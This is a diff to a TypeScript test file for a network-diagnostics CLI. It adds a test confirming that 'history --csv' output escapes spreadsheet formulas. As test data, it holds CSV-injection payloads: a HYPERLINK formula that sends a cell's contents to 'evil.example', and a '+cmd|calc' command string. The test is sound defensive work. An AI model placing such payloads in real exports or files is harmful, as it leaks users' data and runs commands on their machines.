@@ -12,8 +12,9 @@ import { historyFileCsv, historyFileJson, parseHistoryFile } from '../../src/com
 import type { SharedResult } from '../../src/common/speedtest/share.js';
 import { parseHistory } from '../../web/history.js';
 import { runLinesOf, startMonitor, until } from '../support/monitor-process.js';
+import { openStore } from '../../src/cli/monitor/store.js';
 import { runCli } from '../support/process.js';
-import { startTestServer } from '../support/server.js';
+import { LOOPBACK_TRANSFERS, startTestServer } from '../support/server.js';
 
 const dir = mkdtempSync(join(tmpdir(), 'netdiag-monitor-file-'));
 afterAll(() => {
@@ -28,7 +29,7 @@ const WATCH = { at: daysAgo(1), interval_s: 5, duration_s: 60, targets: [{ targe
 
 describe("netdiag monitor import and export: the page's history file", () => {
   it('imports a page file once, exports it with a run of its own, and the page reads the export back as the same results', async () => {
-    const server = await startTestServer({ NETDIAG_EVENTS_SINK: 'none', NETDIAG_RATE_LIMITS: 'speedtest=100000,ip=100000' });
+    const server = await startTestServer({ NETDIAG_EVENTS_SINK: 'none', NETDIAG_RATE_LIMITS: 'speedtest=100000,ip=100000', ...LOOPBACK_TRANSFERS });
     const config = join(dir, 'monitor.yaml');
     writeFileSync(config, `servers: [${server.url}]\ndatabase: ${join(dir, 'monitor.db')}\nlisten: off\nchecks:\n  - name: line speed\n    run: speedtest\n    mode: light\n    cron: "* * * * * *"\n    spread: 0s\n`);
     const pageFile = join(dir, 'page-history.json');
@@ -97,5 +98,23 @@ describe("netdiag monitor import and export: the page's history file", () => {
     expect(refused.stderr).toBe(`netdiag monitor: ${file} was not imported: result 2: its download_mbps is not a number of zero or more\n`);
     const listed = await runCli(['monitor', 'history', '--json', '--config', config]);
     expect(JSON.parse(listed.stdout)).toEqual([]);
+  });
+
+  it('history --csv writes no cell a spreadsheet reads as a formula, whatever a server put in an error or an answer (issue 69)', async () => {
+    const config = join(dir, 'formula.yaml');
+    const database = join(dir, 'formula.db');
+    writeFileSync(config, `servers: [http://127.0.0.1:9]\ndatabase: ${database}\nlisten: off\nchecks:\n  - name: x\n    run: dns\n    query: example.test\n    every: 1h\n`);
+    const hostile = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const store = await openStore(database);
+    store.addRun({ check: 'x', server: 'http://127.0.0.1:9', startedAt: daysAgo(1), durationMs: 5, ok: false, error: hostile, figures: {}, breaches: [`the check did not run: ${hostile}`] });
+    store.addRun({ check: 'x', server: 'http://127.0.0.1:9', startedAt: daysAgo(0.5), durationMs: 5, ok: true, error: '@SUM(1+1)', figures: { answers: '+cmd|calc' }, breaches: ['-2+3'] });
+    store.close();
+    const listed = await runCli(['monitor', 'history', '--csv', '--config', config]);
+    expect(listed.code).toBe(0);
+    const [header, first, second] = listed.stdout.trimEnd().split('\n');
+    expect(header).toBe('started_at,check,server,ok,error,breaches,figures');
+    // RFC 4180 cells, each text one that would start a formula led by an apostrophe.
+    expect(first?.split(',').slice(3).join(',')).toBe(`false,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")","the check did not run: =HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",{}`);
+    expect(second?.split(',').slice(3).join(',')).toBe(`true,'@SUM(1+1),'-2+3,"{""answers"":""+cmd|calc""}"`);
   });
 });
